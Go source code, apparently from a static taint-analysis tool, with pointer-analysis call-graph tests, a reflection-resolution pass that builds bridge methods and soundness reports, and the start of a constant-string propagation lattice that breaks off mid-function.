func findCallTo(m *ir.Method, name string) ir.Stmt {
	for _, s := range m.Body() {
		if c := ir.CallOf(s); c != nil && c.Ref.Name == name {
			return s
		}
	}
	return nil
}

func TestPTADispatchSingle(t *testing.T) {
	prog, err := irtext.ParseProgram(dispatchSrc, "d.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	res := Build(context.Background(), prog, main)
	site := findCallTo(main, "who")
	targets := res.Graph.CalleesOf(site)
	if len(targets) != 1 || targets[0].Class.Name != "B" {
		t.Errorf("PTA should resolve x.who() to exactly B.who, got %v", targets)
	}
	// CHA, by contrast, sees all three implementations.
	cha := callgraph.BuildCHA(context.Background(), prog, main)
	if got := len(cha.CalleesOf(site)); got != 3 {
		t.Errorf("CHA should see 3 targets, got %d", got)
	}
}

func TestPTADispatchPoly(t *testing.T) {
	prog, err := irtext.ParseProgram(dispatchSrc, "d.ir")
	if err != nil {
		t.Fatal(err)
	}
	poly := prog.Class("Main").Method("poly", 0)
	res := Build(context.Background(), prog, poly)
	site := findCallTo(poly, "who")
	targets := res.Graph.CalleesOf(site)
	if len(targets) != 2 {
		t.Fatalf("poly call should have 2 targets (B, C), got %v", targets)
	}
	names := map[string]bool{}
	for _, m := range targets {
		names[m.Class.Name] = true
	}
	if !names["B"] || !names["C"] {
		t.Errorf("targets = %v, want B.who and C.who", targets)
	}
	// The allocation of A never happens, so A.who must be unreachable.
	for _, m := range res.Graph.Reachable() {
		if m.Class.Name == "A" && m.Name == "who" {
			t.Error("A.who should not be reachable")
		}
	}
}

const heapSrc = `
class Box {
  field item: java.lang.Object
  method set(o: java.lang.Object): void {
    this.item = o
  }
  method get(): java.lang.Object {
    r = this.item
    return r
  }
}
class Payload {
  method fire(): void {
    return
  }
}
class Decoy {
  method fire(): void {
    return
  }
}
class Main {
  static method main(): void {
    b1 = new Box
    b2 = new Box
    p = new Payload
    d = new Decoy
    b1.item = p
    b2.item = d
    o = b1.item
    local pp: Payload
    pp = (Payload) o
    pp.fire()
    return
  }
  static method merged(): void {
    b1 = new Box
    b2 = new Box
    p = new Payload
    d = new Decoy
    b1.set(p)
    b2.set(d)
    o = b1.get()
    local pp: Payload
    pp = (Payload) o
    pp.fire()
    return
  }
}
`

func TestPTAHeapFieldSensitivity(t *testing.T) {
	// Field-sensitive and allocation-site-based: direct stores to the
	// item fields of two distinct Box objects stay separate.
	prog, err := irtext.ParseProgram(heapSrc, "h.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	res := Build(context.Background(), prog, main)
	site := findCallTo(main, "fire")
	targets := res.Graph.CalleesOf(site)
	if len(targets) != 1 || targets[0].Class.Name != "Payload" {
		t.Errorf("pp.fire() should dispatch only to Payload.fire, got %v", targets)
	}
	pp := main.LookupLocal("pp")
	objs := res.PointsTo(pp)
	if len(objs) != 1 || objs[0].Class != "Payload" {
		t.Errorf("pts(pp) = %v, want a single Payload", objs)
	}
}

func TestPTAContextInsensitiveMerge(t *testing.T) {
	// When the stores go through a shared setter method, the
	// context-insensitive analysis (like Spark) merges the receivers and
	// sees both payload types; this documents the known imprecision the
	// taint analysis compensates for with its own context sensitivity.
	prog, err := irtext.ParseProgram(heapSrc, "h.ir")
	if err != nil {
		t.Fatal(err)
	}
	merged := prog.Class("Main").Method("merged", 0)
	res := Build(context.Background(), prog, merged)
	pp := merged.LookupLocal("pp")
	objs := res.PointsTo(pp)
	if len(objs) != 2 {
		t.Errorf("pts(pp) through shared setter = %v, want the merged pair", objs)
	}
}

const fallbackSrc = `
class Lib {
  method make(): Gadget;
}
class Gadget {
  method go(): void {
    return
  }
}
class Main {
  static method main(): void {
    l = new Lib
    g = l.make()
    g.go()
    return
  }
}
`

func TestPTAStubFallback(t *testing.T) {
	// Lib.make is a bodyless stub, so g has no allocation sites; the CHA
	// fallback must still resolve g.go() via the declared return type.
	prog, err := irtext.ParseProgram(fallbackSrc, "f.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	res := Build(context.Background(), prog, main)
	site := findCallTo(main, "go")
	targets := res.Graph.CalleesOf(site)
	if len(targets) != 1 || targets[0].Class.Name != "Gadget" {
		t.Errorf("fallback should resolve g.go() to Gadget.go, got %v", targets)
	}
}

func TestReachesTransitively(t *testing.T) {
	prog, err := irtext.ParseProgram(dispatchSrc, "d.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("Main").Method("main", 0)
	res := Build(context.Background(), prog, main)
	site := findCallTo(main, "who")
	bWho := prog.Class("B").Method("who", 0)
	aWho := prog.Class("A").Method("who", 0)
	if !res.Graph.ReachesTransitively(site, bWho) {
		t.Error("call site should reach B.who")
	}
	if res.Graph.ReachesTransitively(site, aWho) {
		t.Error("call site should not reach A.who")
	}
}

const staticArraySrc = `
class Thing {
  method go(): void {
    return
  }
}
class Other {
  method go(): void {
    return
  }
}
class Glob {
  static field shared: Thing
}
class Main {
  static method viaStatic(): void {
    t = new Thing
    Glob.shared = t
    u = Glob.shared
    u.go()
    return
  }
  static method viaArray(): void {
    arr = newarray Thing
    t = new Thing
    arr[0] = t
    u = arr[1]
    u.go()
    return
  }
}
`

func TestPTAStaticFields(t *testing.T) {
	prog, err := irtext.ParseProgram(staticArraySrc, "s.ir")
	if err != nil {
		t.Fatal(err)
	}
	m := prog.Class("Main").Method("viaStatic", 0)
	res := Build(context.Background(), prog, m)
	targets := res.Graph.CalleesOf(findCallTo(m, "go"))
	if len(targets) != 1 || targets[0].Class.Name != "Thing" {
		t.Errorf("static-field flow should resolve u.go() to Thing only, got %v", targets)
	}
}

func TestPTAArrayContents(t *testing.T) {
	// Array cells are a single abstract location: a read at any index
	// sees objects stored at any index.
	prog, err := irtext.ParseProgram(staticArraySrc, "s.ir")
	if err != nil {
		t.Fatal(err)
	}
	m := prog.Class("Main").Method("viaArray", 0)
	res := Build(context.Background(), prog, m)
	targets := res.Graph.CalleesOf(findCallTo(m, "go"))
	if len(targets) != 1 || targets[0].Class.Name != "Thing" {
		t.Errorf("array flow should resolve u.go() to Thing, got %v", targets)
	}
	u := m.LookupLocal("u")
	if objs := res.PointsTo(u); len(objs) != 1 || !res.PointsTo(m.LookupLocal("arr"))[0].Array {
		t.Errorf("pts(u) = %v; arr should be an array object", objs)
	}
}
