package constprop

import (
	"context"
	"fmt"
	"sort"

	"flowdroid/internal/ir"
)

// api discriminates the reflective framework entry points the pass
// models.
type api int

const (
	apiNone api = iota
	apiForName
	apiGetMethod
	apiGetName
	apiNewInstance
	apiInvoke
	apiLoadClass
)

// reflectiveAPI classifies a call expression against the reflection
// surface: Class.forName, Class.getMethod/getDeclaredMethod,
// Class.getName, Class.newInstance, reflect.Method.invoke and
// ClassLoader.loadClass. The second result is the dotted API name used
// in soundness entries and diagnostics.
func reflectiveAPI(call *ir.InvokeExpr) (api, string) {
	switch call.Kind {
	case ir.StaticInvoke:
		if call.Ref.Class == "java.lang.Class" && call.Ref.Name == "forName" && len(call.Args) == 1 {
			return apiForName, "java.lang.Class.forName"
		}
	case ir.VirtualInvoke:
		// The parser leaves Ref.Class empty for receivers whose type is
		// inferred at link time; resolve against the receiver local's
		// type, like the verifier's callee resolution does.
		cls := call.Ref.Class
		if call.Base != nil && call.Base.Type.IsRef() {
			cls = call.Base.Type.Name
		}
		switch cls {
		case "java.lang.Class":
			switch {
			case (call.Ref.Name == "getMethod" || call.Ref.Name == "getDeclaredMethod") && len(call.Args) == 1:
				return apiGetMethod, "java.lang.Class." + call.Ref.Name
			case call.Ref.Name == "getName" && len(call.Args) == 0:
				return apiGetName, "java.lang.Class.getName"
			case call.Ref.Name == "newInstance" && len(call.Args) == 0:
				return apiNewInstance, "java.lang.Class.newInstance"
			}
		case "java.lang.reflect.Method":
			if call.Ref.Name == "invoke" && len(call.Args) >= 1 {
				return apiInvoke, "java.lang.reflect.Method.invoke"
			}
		case "java.lang.ClassLoader":
			if call.Ref.Name == "loadClass" && len(call.Args) == 1 {
				return apiLoadClass, "java.lang.ClassLoader.loadClass"
			}
		}
	}
	return apiNone, ""
}

// UnresolvedReason classifies why a reflective site could not be
// resolved to a constant target set.
type UnresolvedReason string

const (
	// NonConstantString: the class or method name does not resolve to a
	// bounded constant-string set.
	NonConstantString UnresolvedReason = "non-constant string"
	// UnknownClass: the name is constant but no class (or method on it)
	// of that name exists in the analyzed program or framework model.
	UnknownClass UnresolvedReason = "unknown class"
	// DynamicLoading: the site loads code through a ClassLoader; the
	// target can come from outside the analyzed program entirely.
	DynamicLoading UnresolvedReason = "dynamic loading"
)

// UnresolvedSite is one reflective call the analysis had to leave
// opaque — a hole in the call graph the leak report cannot see past.
type UnresolvedSite struct {
	// Method is the enclosing method as "Class.name/arity".
	Method string `json:"method"`
	// Line is the site's source line (0 for synthesized code).
	Line int `json:"line,omitempty"`
	// Call is the dotted reflective API at the site.
	Call string `json:"call"`
	// Reason says why resolution failed.
	Reason UnresolvedReason `json:"reason"`
}

// SoundnessReport makes the analysis's blind spots explicit: how many
// reflective sites were resolved into real call edges, and every site
// left opaque with the reason. An empty Unresolved list under
// reflection resolution means the leak report's "no leaks" claim covers
// the reflective surface too.
type SoundnessReport struct {
	// ResolvedSites counts reflective call sites fully resolved to a
	// constant target set (forName, getMethod, newInstance and invoke
	// sites all count individually).
	ResolvedSites int `json:"resolved_sites"`
	// Unresolved lists the opaque sites in (method, line, call) order.
	Unresolved []UnresolvedSite `json:"unresolved_sites"`
}

// Empty reports whether there is nothing to say: no reflective sites at
// all.
func (r *SoundnessReport) Empty() bool {
	return r == nil || (r.ResolvedSites == 0 && len(r.Unresolved) == 0)
}

// Site is one reflective call statement with what the pass resolved it
// to. Invoke sites carry real method targets; newInstance sites carry
// the class names to construct. Data-only sites (forName, getMethod)
// have neither — their effect lives in the facts.
type Site struct {
	// Stmt is the call statement and In its enclosing method.
	Stmt ir.Stmt
	In   *ir.Method
	// API is the dotted reflective API name.
	API string
	// Targets are the resolved invoke targets (invoke sites only).
	Targets []*ir.Method
	// Ctors are the resolved classes to instantiate (newInstance only).
	Ctors []string
	// Unresolved is non-nil when the site (also) contributes a soundness
	// entry.
	Unresolved *UnresolvedSite
}

// Result is the pass output: the classified reflective sites in
// deterministic order and the aggregated soundness report.
type Result struct {
	Sites  []Site
	Report *SoundnessReport
	// Truncated is set when the context expired mid-pass; the result is
	// partial and must not be used.
	Truncated bool
}

// Analyze runs constant propagation over every non-synthetic class of h
// and classifies each reflective call site. It never mutates the
// program; Materialize turns the resolved sites into callable bridge
// methods.
func Analyze(ctx context.Context, h ir.Hierarchy) *Result {
	if ctx == nil {
		ctx = context.Background()
	}
	// Unresolved starts non-nil so an all-resolved report serializes its
	// "unresolved_sites" as [] rather than null, the same discipline the
	// leak report follows.
	res := &Result{Report: &SoundnessReport{Unresolved: []UnresolvedSite{}}}
	// The dominant case is an app with no reflective surface at all; one
	// flat scan detects it and skips the interprocedural fixpoint, whose
	// facts nothing would consume. This keeps reflection resolution
	// effectively free on reflection-free programs.
	if !hasReflection(h) {
		return res
	}
	a := newAnalysis(ctx, h)
	a.run()
	if a.truncated {
		res.Truncated = true
		return res
	}
	// One more stable pass per method, collecting the classification at
	// each reflective site under its final entry state. A statement can
	// be visited more than once while the intraprocedural worklist
	// converges; the last visit sees the full joined state, so later
	// classifications overwrite earlier ones.
	for _, m := range a.methods {
		perStmt := make(map[ir.Stmt]Site)
		var order []ir.Stmt
		a.analyzeMethod(m, func(s ir.Stmt, call *ir.InvokeExpr, st state) {
			site, ok := a.classify(m, s, call, st)
			if !ok {
				return
			}
			if _, seen := perStmt[s]; !seen {
				order = append(order, s)
			}
			perStmt[s] = site
		})
		if a.truncated {
			res.Truncated = true
			return res
		}
		sort.Slice(order, func(i, j int) bool { return order[i].Index() < order[j].Index() })
		for _, s := range order {
			res.Sites = append(res.Sites, perStmt[s])
		}
	}
	for _, s := range res.Sites {
		if s.Unresolved != nil {
			res.Report.Unresolved = append(res.Report.Unresolved, *s.Unresolved)
		} else {
			res.Report.ResolvedSites++
		}
	}
	return res
}

// hasReflection reports whether any analyzed body contains a reflective
// call the classification pass would act on. getName alone does not
// count: it produces a fact but never a site, so a program whose only
// reflective API use is Class.getName still has nothing to classify.
func hasReflection(h ir.Hierarchy) bool {
	for _, c := range h.Classes() {
		if c.Synthetic || c.Interface {
			continue
		}
		for _, m := range c.Methods() {
			if m.Abstract() {
				continue
			}
			for _, s := range m.Body() {
				if call := ir.CallOf(s); call != nil {
					if k, _ := reflectiveAPI(call); k != apiNone && k != apiGetName {
						return true
					}
				}
			}
		}
	}
	return false
}

// classify evaluates one reflective call site under the final state,
// returning the Site record and whether the statement is reflective at
// all.
func (a *analysis) classify(m *ir.Method, s ir.Stmt, call *ir.InvokeExpr, st state) (Site, bool) {
	kind, name := reflectiveAPI(call)
	if kind == apiNone || kind == apiGetName {
		return Site{}, false
	}
	site := Site{Stmt: s, In: m, API: name}
	unresolved := func(r UnresolvedReason) (Site, bool) {
		site.Unresolved = &UnresolvedSite{
			Method: m.String(),
			Line:   s.Line(),
			Call:   name,
			Reason: r,
		}
		return site, true
	}
	switch kind {
	case apiLoadClass:
		return unresolved(DynamicLoading)
	case apiForName:
		f := operand(st, call.Args[0])
		if f.k != strs {
			return unresolved(NonConstantString)
		}
		for _, cn := range f.set {
			if a.h.Class(cn) == nil {
				return unresolved(UnknownClass)
			}
		}
		return site, true
	case apiGetMethod:
		cf := st[call.Base]
		nf := operand(st, call.Args[0])
		if cf.k != classes || nf.k != strs || len(cf.set)*len(nf.set) > maxSet {
			return unresolved(NonConstantString)
		}
		return site, true
	case apiNewInstance:
		cf := st[call.Base]
		if cf.k != classes {
			return unresolved(NonConstantString)
		}
		for _, cn := range cf.set {
			c := a.h.Class(cn)
			if c == nil || c.Interface {
				return unresolved(UnknownClass)
			}
			site.Ctors = append(site.Ctors, cn)
		}
		return site, true
	case apiInvoke:
		mf := st[call.Base]
		if mf.k != methods {
			return unresolved(NonConstantString)
		}
		nargs := len(call.Args) - 1
		for _, mk := range mf.meths {
			if a.h.Class(mk.class) == nil {
				return unresolved(UnknownClass)
			}
			t := a.h.ResolveMethod(mk.class, mk.name, nargs)
			if t == nil || t.Abstract() {
				return unresolved(UnknownClass)
			}
			site.Targets = append(site.Targets, t)
		}
		return site, true
	}
	return Site{}, false
}

// BridgesClass is the synthetic class holding the reflective bridge
// methods Materialize generates. Like the lifecycle dummy main it is
// marked Synthetic so component modeling and the constant-propagation
// scan itself skip it.
const BridgesClass = "reflection$Bridges"

// Materialize synthesizes one static bridge method per resolved
// (site, target) pair and returns the reflective call edges —
// site statement to bridge method — for the call-graph builders. A
// bridge's parameters positionally mirror the invoke site's arguments
// (receiver first, then the boxed argument list), so the taint solver's
// ordinary call-flow mapping carries facts through the
// invoke(Object, Object...) boundary with no solver changes.
//
// Bridge names are deterministic in site order, and an existing bridges
// class (a previous Analyze+Materialize of the same program) is reused
// method-by-method, mirroring the dummy-main reuse guard.
func (r *Result) Materialize(prog *ir.Program) (map[ir.Stmt][]*ir.Method, error) {
	type build struct {
		site ir.Stmt
		name string
		gen  func(cb *ir.ClassBuilder, name string)
	}
	var builds []build
	for i, s := range r.Sites {
		for j, t := range s.Targets {
			t := t
			builds = append(builds, build{
				site: s.Stmt,
				name: fmt.Sprintf("invoke$%d$%d", i, j),
				gen:  func(cb *ir.ClassBuilder, name string) { genInvokeBridge(cb, name, t) },
			})
		}
		for j, cn := range s.Ctors {
			cn := cn
			builds = append(builds, build{
				site: s.Stmt,
				name: fmt.Sprintf("new$%d$%d", i, j),
				gen:  func(cb *ir.ClassBuilder, name string) { genCtorBridge(cb, name, cn, prog) },
			})
		}
	}
	if len(builds) == 0 {
		return nil, nil
	}
	var cb *ir.ClassBuilder
	cls := prog.Class(BridgesClass)
	edges := make(map[ir.Stmt][]*ir.Method)
	for _, b := range builds {
		if cls != nil {
			if m := findBridge(cls, b.name); m != nil {
				edges[b.site] = append(edges[b.site], m)
				continue
			}
		}
		if cb == nil {
			if cls != nil {
				return nil, fmt.Errorf("constprop: %s exists but lacks bridge %s; the program changed since it was generated", BridgesClass, b.name)
			}
			cb = ir.NewClassIn(prog, BridgesClass, "")
			cb.Class().Synthetic = true
			cls = cb.Class()
		}
		b.gen(cb, b.name)
		if err := cb.Err(); err != nil {
			return nil, fmt.Errorf("constprop: %w", err)
		}
		edges[b.site] = append(edges[b.site], findBridge(cls, b.name))
	}
	if cb != nil {
		if err := prog.Link(); err != nil {
			return nil, fmt.Errorf("constprop: %w", err)
		}
	}
	return edges, nil
}

// findBridge locates a generated bridge by name (bridges are unique per
// name regardless of arity).
func findBridge(c *ir.Class, name string) *ir.Method {
	ms := c.MethodsNamed(name)
	if len(ms) == 0 {
		return nil
	}
	return ms[0]
}

// genInvokeBridge emits
//
//	static name(recv, a1..ak) { return recv.m(a1..ak) }
//
// for an instance target (a static call for a static target). The
// receiver parameter is typed with the target class so the inner call
// dispatches — and the CHA builders resolve it — exactly like a direct
// virtual call.
func genInvokeBridge(cb *ir.ClassBuilder, name string, t *ir.Method) {
	mb := cb.StaticMethod(name, t.Return)
	recvType := ir.Ref("java.lang.Object")
	if !t.Static {
		recvType = ir.Ref(t.Class.Name)
	}
	recv := mb.Param("recv", recvType)
	args := make([]ir.Value, len(t.Params))
	for i, p := range t.Params {
		args[i] = mb.Param(fmt.Sprintf("a%d", i), p.Type)
	}
	void := t.Return.Kind == ir.VoidType
	var ret *ir.Local
	if !void {
		ret = mb.Local("r")
		ret.Type = t.Return
		ret.Declared = true
	}
	switch {
	case t.Static && void:
		mb.SCall(t.Class.Name, t.Name, args...)
		mb.Return(nil)
	case t.Static:
		mb.SCallTo(ret, t.Class.Name, t.Name, args...)
		mb.Return(ret)
	case void:
		mb.VCall(recv, t.Name, args...)
		mb.Return(nil)
	default:
		mb.VCallTo(ret, recv, t.Name, args...)
		mb.Return(ret)
	}
	mb.Done()
}

// genCtorBridge emits
//
//	static name(): C { x = new C; x.<init>(); return x }
//
// for a newInstance target class.
func genCtorBridge(cb *ir.ClassBuilder, name, class string, prog *ir.Program) {
	mb := cb.StaticMethod(name, ir.Ref(class))
	x := mb.Local("x")
	x.Type = ir.Ref(class)
	x.Declared = true
	mb.New(x, class)
	if prog.ResolveMethod(class, "init", 0) != nil {
		mb.SpecialCall(x, class, "init")
	}
	mb.Return(x)
	mb.Done()
}
