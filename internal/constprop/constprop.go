// Package constprop is a flow-sensitive, interprocedural constant-string
// propagation pass in the style of internal/irlint's analyzer framework,
// but producing facts instead of diagnostics. It tracks which string,
// Class and java.lang.reflect.Method values a local can hold when every
// contributing write is a compile-time constant: string literals, string
// concatenation (the + operator and String.concat), StringBuilder /
// StringBuffer chains (the PR 9 carrier insight applied to constants),
// fields with a single constant writer, and constants flowing through
// call arguments and returns.
//
// Its sole consumer today is reflection resolution: a
// Class.forName("C").getMethod("m").invoke(x, a) chain whose receiver
// and name strings resolve to a bounded constant set becomes a set of
// ordinary call-graph edges (via synthesized bridge methods, see
// Materialize in reflect.go), so the taint solver tracks flows through
// reflection with
// no solver changes. Every reflective site the pass cannot resolve is
// recorded in a SoundnessReport with the reason — non-constant string,
// unknown class, or dynamic loading — so a clean analysis result
// distinguishes "no leaks" from "no leaks among what I could see".
//
// The lattice is deliberately small: per local, either "unknown" (top),
// "no constant observed" (bottom), or a bounded set (maxSet) of strings,
// class names, (class, method) pairs, or StringBuilder contents. All
// imprecision degrades toward top, which downstream turns into an
// honestly reported unresolved site — never a missing report entry.
package constprop

import (
	"context"
	"sort"

	"flowdroid/internal/callgraph"
	"flowdroid/internal/ir"
)

// maxSet bounds every constant set the lattice tracks; a join that would
// exceed it goes to top (non-constant). Small keeps the fixpoint cheap
// and the resolved edge fan-out bounded.
const maxSet = 8

// maxRounds bounds the interprocedural fixpoint; the lattice height is
// tiny (sets only grow until maxSet, then top), so the bound exists only
// as a safety net against a transfer-function bug looping forever.
const maxRounds = 32

type kind uint8

const (
	bot kind = iota // no constant observed yet (unassigned path)
	strs            // a bounded set of string constants
	classes         // a bounded set of class names (java.lang.Class values)
	methods         // a bounded set of (class, method-name) pairs
	builder         // StringBuilder/StringBuffer contents, tracked per allocation site
	top             // not a constant
)

// methodKey is one (class, method-name) element of a methods fact — the
// value a getMethod call produces.
type methodKey struct {
	class, name string
}

// fact is the lattice value of one local at one program point.
type fact struct {
	k     kind
	set   []string    // sorted; strs, classes, and builder contents
	meths []methodKey // sorted; methods
	// origin is the allocation site a builder fact tracks; appends update
	// every local sharing the origin, and joining two different origins
	// degrades to top.
	origin ir.Stmt
}

var topFact = fact{k: top}

func strsOf(ss ...string) fact {
	out := append([]string(nil), ss...)
	sort.Strings(out)
	return fact{k: strs, set: dedup(out)}
}

func dedup(sorted []string) []string {
	out := sorted[:0]
	for i, s := range sorted {
		if i == 0 || s != sorted[i-1] {
			out = append(out, s)
		}
	}
	return out
}

func unionStrs(a, b []string) ([]string, bool) {
	out := make([]string, 0, len(a)+len(b))
	out = append(out, a...)
	out = append(out, b...)
	sort.Strings(out)
	out = dedup(out)
	if len(out) > maxSet {
		return nil, false
	}
	return out, true
}

// join is the lattice join. Facts of different kinds (or builders of
// different allocation sites) meet at top.
func join(a, b fact) fact {
	switch {
	case a.k == bot:
		return b
	case b.k == bot:
		return a
	case a.k == top || b.k == top || a.k != b.k:
		return topFact
	}
	switch a.k {
	case strs, classes:
		u, ok := unionStrs(a.set, b.set)
		if !ok {
			return topFact
		}
		return fact{k: a.k, set: u}
	case builder:
		if a.origin != b.origin {
			return topFact
		}
		u, ok := unionStrs(a.set, b.set)
		if !ok {
			return topFact
		}
		return fact{k: builder, set: u, origin: a.origin}
	case methods:
		out := make([]methodKey, 0, len(a.meths)+len(b.meths))
		out = append(out, a.meths...)
		out = append(out, b.meths...)
		sort.Slice(out, func(i, j int) bool {
			if out[i].class != out[j].class {
				return out[i].class < out[j].class
			}
			return out[i].name < out[j].name
		})
		ded := out[:0]
		for i, m := range out {
			if i == 0 || m != out[i-1] {
				ded = append(ded, m)
			}
		}
		if len(ded) > maxSet {
			return topFact
		}
		return fact{k: methods, meths: ded}
	}
	return topFact
}

func equalFacts(a, b fact) bool {
	if a.k != b.k || a.origin != b.origin ||
		len(a.set) != len(b.set) || len(a.meths) != len(b.meths) {
		return false
	}
	for i := range a.set {
		if a.set[i] != b.set[i] {
			return false
		}
	}
	for i := range a.meths {
		if a.meths[i] != b.meths[i] {
			return false
		}
	}
	return true
}

// concat is the transfer of string concatenation: the cross product of
// two constant sets, bounded by maxSet. It is monotone: a bot operand
// (no value observed yet) yields bot, never top, so an early fixpoint
// round cannot poison a later one.
func concat(a, b fact) fact {
	if a.k == bot || b.k == bot {
		return fact{}
	}
	if a.k != strs || b.k != strs {
		return topFact
	}
	if len(a.set)*len(b.set) > maxSet {
		return topFact
	}
	out := make([]string, 0, len(a.set)*len(b.set))
	for _, x := range a.set {
		for _, y := range b.set {
			out = append(out, x+y)
		}
	}
	sort.Strings(out)
	return fact{k: strs, set: dedup(out)}
}

// state is the per-program-point environment: local → fact. Locals
// absent from the map are bot.
type state map[*ir.Local]fact

func (st state) clone() state {
	out := make(state, len(st))
	for l, f := range st {
		out[l] = f
	}
	return out
}

func (st state) joinInto(other state) bool {
	changed := false
	for l, f := range other {
		j := join(st[l], f)
		if !equalFacts(st[l], j) {
			st[l] = j
			changed = true
		}
	}
	return changed
}

// analysis holds the interprocedural fixpoint state.
type analysis struct {
	ctx context.Context
	h   ir.Hierarchy
	res *callgraph.Resolver

	// methods are the analyzed (app, non-synthetic, bodied) methods in
	// deterministic (class name, method name, arity) order.
	methods []*ir.Method
	inSet   map[*ir.Method]bool

	// external marks methods whose parameters are pinned top: framework
	// callbacks (overriding a bodyless declaration), static initializers,
	// and methods with no observed call site (callable from outside the
	// analyzed code).
	external map[*ir.Method]bool

	// paramIn[m][i] joins the i-th argument facts over every observed
	// call site of m; retOut[m] joins m's return-value facts.
	paramIn map[*ir.Method][]fact
	retOut  map[*ir.Method]fact

	// fieldFacts holds the constant for fields with exactly one writer
	// program-wide whose written value is a string literal; every other
	// written field maps to top.
	fieldFacts map[*ir.Field]fact

	// targets memoizes the resolver per call expression: transferCall
	// re-evaluates every call site on every worklist visit of every
	// fixpoint round, and the targets never change mid-pass.
	targets map[*ir.InvokeExpr][]*ir.Method

	truncated bool
}

func newAnalysis(ctx context.Context, h ir.Hierarchy) *analysis {
	a := &analysis{
		ctx:        ctx,
		h:          h,
		res:        callgraph.ResolverFor(h),
		inSet:      make(map[*ir.Method]bool),
		external:   make(map[*ir.Method]bool),
		paramIn:    make(map[*ir.Method][]fact),
		retOut:     make(map[*ir.Method]fact),
		fieldFacts: make(map[*ir.Field]fact),
		targets:    make(map[*ir.InvokeExpr][]*ir.Method),
	}
	for _, c := range h.Classes() {
		if c.Synthetic || c.Interface {
			continue
		}
		for _, m := range c.Methods() {
			if m.Abstract() {
				continue
			}
			a.methods = append(a.methods, m)
			a.inSet[m] = true
		}
	}
	a.prescan()
	return a
}

// prescan classifies externally-callable methods and collects the
// single-constant-writer field facts in one walk over every body.
func (a *analysis) prescan() {
	type fieldWrite struct {
		count int
		f     fact
	}
	writes := make(map[*ir.Field]*fieldWrite)
	hasSite := make(map[*ir.Method]bool)
	for _, m := range a.methods {
		for _, s := range m.Body() {
			if call := ir.CallOf(s); call != nil {
				for _, t := range a.targetsOf(call) {
					hasSite[t] = true
				}
			}
			as, ok := s.(*ir.AssignStmt)
			if !ok {
				continue
			}
			var fld *ir.Field
			switch lhs := as.LHS.(type) {
			case *ir.FieldRef:
				fld = lhs.Field
			case *ir.StaticFieldRef:
				fld = lhs.Field
			}
			if fld == nil {
				continue
			}
			w := writes[fld]
			if w == nil {
				w = &fieldWrite{}
				writes[fld] = w
			}
			w.count++
			if c, ok := as.RHS.(*ir.Const); ok && c.Kind == ir.StringConst {
				w.f = strsOf(c.Str)
			} else {
				w.f = topFact
			}
		}
	}
	for fld, w := range writes {
		if w.count == 1 && w.f.k == strs {
			a.fieldFacts[fld] = w.f
		} else {
			a.fieldFacts[fld] = topFact
		}
	}
	for _, m := range a.methods {
		if a.overridesExternal(m) || m.Name == "clinit" || !hasSite[m] {
			a.external[m] = true
		}
	}
}

// overridesExternal reports whether m overrides a declaration visible
// outside the analyzed code — a bodyless (framework stub or interface)
// method reachable on its superclass chain or interfaces. Such methods
// can be invoked by the framework with arbitrary arguments, so their
// parameters are never constant.
func (a *analysis) overridesExternal(m *ir.Method) bool {
	if d := a.h.ResolveMethod(m.Class.Super, m.Name, len(m.Params)); d != nil {
		return true
	}
	for _, in := range m.Class.Interfaces {
		if d := a.h.ResolveMethod(in, m.Name, len(m.Params)); d != nil {
			return true
		}
	}
	return false
}

// entryState is the environment at a method's start point.
func (a *analysis) entryState(m *ir.Method) state {
	st := make(state, len(m.Params)+1)
	if m.This != nil {
		st[m.This] = topFact
	}
	pin := a.paramIn[m]
	for i, p := range m.Params {
		switch {
		case a.external[m]:
			st[p] = topFact
		case i < len(pin):
			// Starts at bot before any caller was analyzed and only ever
			// rises — the join over observed call sites is monotone.
			st[p] = pin[i]
		}
	}
	return st
}

// run drives the interprocedural fixpoint: every method is analyzed
// intraprocedurally; argument facts observed at its call sites feed the
// callees' parameter environments and return facts feed call results,
// until a full round changes nothing.
func (a *analysis) run() {
	for round := 0; round < maxRounds; round++ {
		changed := false
		for _, m := range a.methods {
			if a.ctx.Err() != nil {
				a.truncated = true
				return
			}
			if a.analyzeMethod(m, nil) {
				changed = true
			}
		}
		if !changed {
			return
		}
	}
}

// analyzeMethod runs the flow-sensitive intraprocedural worklist over
// m's body under the current interprocedural environment, returning
// whether any callee's paramIn or m's retOut changed. When visit is
// non-nil it is invoked at every call statement with the state holding
// immediately before the call (the classification pass of reflect.go).
func (a *analysis) analyzeMethod(m *ir.Method, visit func(s ir.Stmt, call *ir.InvokeExpr, st state)) bool {
	body := m.Body()
	if len(body) == 0 {
		return false
	}
	in := make([]state, len(body))
	in[0] = a.entryState(m)
	changed := false

	// succs mirrors cfg.MethodCFG's edge rules without allocating the
	// statement-slice wrappers on every visit.
	succsOf := func(i int) []int {
		switch s := body[i].(type) {
		case *ir.GotoStmt:
			return []int{s.TargetIndex}
		case *ir.IfStmt:
			if s.TargetIndex != i+1 {
				return []int{i + 1, s.TargetIndex}
			}
			return []int{i + 1}
		case *ir.ReturnStmt:
			return nil
		}
		if i+1 < len(body) {
			return []int{i + 1}
		}
		return nil
	}

	work := []int{0}
	inWork := make([]bool, len(body))
	inWork[0] = true
	steps := 0
	for len(work) > 0 {
		steps++
		if steps%1024 == 0 && a.ctx.Err() != nil {
			a.truncated = true
			return changed
		}
		i := work[len(work)-1]
		work = work[:len(work)-1]
		inWork[i] = false
		st := in[i].clone()
		if call := ir.CallOf(body[i]); call != nil && visit != nil {
			visit(body[i], call, st)
		}
		if a.transfer(m, body[i], st) {
			changed = true
		}
		for _, j := range succsOf(i) {
			if j >= len(body) {
				continue
			}
			if in[j] == nil {
				in[j] = st.clone()
			} else if !in[j].joinInto(st) {
				continue
			}
			if !inWork[j] {
				inWork[j] = true
				work = append(work, j)
			}
		}
	}
	return changed
}

// operand evaluates a call argument or binop operand under st.
func operand(st state, v ir.Value) fact {
	switch v := v.(type) {
	case *ir.Local:
		return st[v]
	case *ir.Const:
		if v.Kind == ir.StringConst {
			return strsOf(v.Str)
		}
		return fact{} // null / int: no string constant, but no poison either
	}
	return topFact
}

// transfer applies one statement to st in place, reporting whether it
// changed any interprocedural fact (callee params, own return).
func (a *analysis) transfer(m *ir.Method, s ir.Stmt, st state) bool {
	switch stm := s.(type) {
	case *ir.ReturnStmt:
